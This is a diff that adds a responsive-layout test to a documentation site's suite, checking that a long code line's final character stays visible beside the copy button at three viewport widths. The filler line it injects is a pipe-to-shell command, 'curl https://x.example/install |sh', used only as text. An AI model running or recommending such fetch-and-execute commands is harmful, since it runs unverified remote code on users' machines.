@@ -1293,6 +1293,32 @@ test('code is copied by its button, which says so for a while', async () => {
   expect(await button.textContent()).toBe('Copy')
 })
 
+test.each([
+  ['a phone', 390],
+  ['a tablet', 700],
+  ['a desktop', 1280],
+])('no letter of a long first line stays below the button, on %s', async (_, width) => {
+  onTestFinished(() => page.setViewportSize({ width: 1280, height: 720 }))
+  await page.setViewportSize({ width, height: 720 })
+  await page.goto('/guides/write/theming')
+  const box = page.locator('.code:not(.titled *)').first()
+  await box
+    .locator('code')
+    .evaluate((code) => code.replaceChildren(`curl https://x.example/install ${' '.repeat(90)}|sh`))
+  const atEnd = await box.locator('pre').evaluate((pre) => {
+    pre.scrollIntoView()
+    pre.scrollLeft = pre.scrollWidth
+    const range = document.createRange()
+    const text = pre.querySelector('code')?.firstChild
+    if (!text?.textContent) return undefined
+    range.setStart(text, text.textContent.length - 1)
+    range.setEnd(text, text.textContent.length)
+    const { left, right, top, bottom } = range.getBoundingClientRect()
+    return document.elementFromPoint((left + right) / 2, (top + bottom) / 2)?.localName
+  })
+  expect(atEnd).toBe('code')
+})
+
 test('the button copies code as it is shown: line breaks of raw HTML, and nothing that is folded', async () => {
   await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: sample.origin })
   await page.goto('/guides/write/theming')
